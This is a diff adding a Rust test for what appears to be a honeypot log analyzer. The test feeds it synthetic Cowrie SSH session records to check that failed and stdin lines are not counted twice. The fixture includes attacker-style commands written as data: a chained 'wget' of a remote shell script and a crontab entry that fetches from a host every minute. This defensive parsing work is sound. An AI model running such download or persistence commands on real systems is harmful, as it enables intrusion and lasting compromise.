@@ -678,3 +678,49 @@ fn capped_per_source_lists_do_not_depend_on_the_thread_split() {
         );
     }
 }
+
+/// Cowrie logs every shell line as `command.input`, each command in it that it does
+/// not emulate again as `command.failed`, and lines typed into a running command's
+/// stdin as `command.input` with a `realm`: only the first are commands.
+#[test]
+fn cowrie_failed_commands_and_stdin_lines_are_not_counted_again() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let record = |second: u32, rest: &str| {
+        format!(
+            r#"{{{rest},"session":"f00d","src_ip":"198.51.100.40","protocol":"ssh","timestamp":"2024-08-01T10:00:{second:02}.000000Z"}}"#
+        )
+    };
+    let lines = [
+        record(
+            0,
+            r#""eventid":"cowrie.login.success","username":"root","password":"admin""#,
+        ),
+        record(
+            1,
+            r#""eventid":"cowrie.command.input","input":"foo; wget http://203.0.113.9/x.sh""#,
+        ),
+        record(1, r#""eventid":"cowrie.command.failed","input":"foo ""#),
+        record(
+            2,
+            r#""eventid":"cowrie.command.input","input":"crontab -e""#,
+        ),
+        record(
+            3,
+            r#""eventid":"cowrie.command.input","realm":"crontab","input":"* * * * * wget http://198.51.100.99/y""#,
+        ),
+    ];
+    let log = dir.path().join("cowrie.json");
+    std::fs::write(&log, lines.join("\n") + "\n").expect("write log");
+    let r = match analyze(&[log.display().to_string()], &Options::default()) {
+        Ok(r) => r,
+        Err(e) => panic!("analyze: {e}"),
+    };
+    assert_eq!(r.totals.bad_rows, 0);
+    assert_eq!(r.totals.shell_commands, 2, "the two shell lines, once each");
+    assert_eq!(
+        pairs(&r.top_commands),
+        [("crontab -e", 1), ("foo; wget http://203.0.113.9/x.sh", 1)]
+    );
+    let hosts: Vec<&str> = r.payload_hosts.iter().map(|p| p.host.as_str()).collect();
+    assert_eq!(hosts, ["203.0.113.9"], "stdin data is no download command");
+}
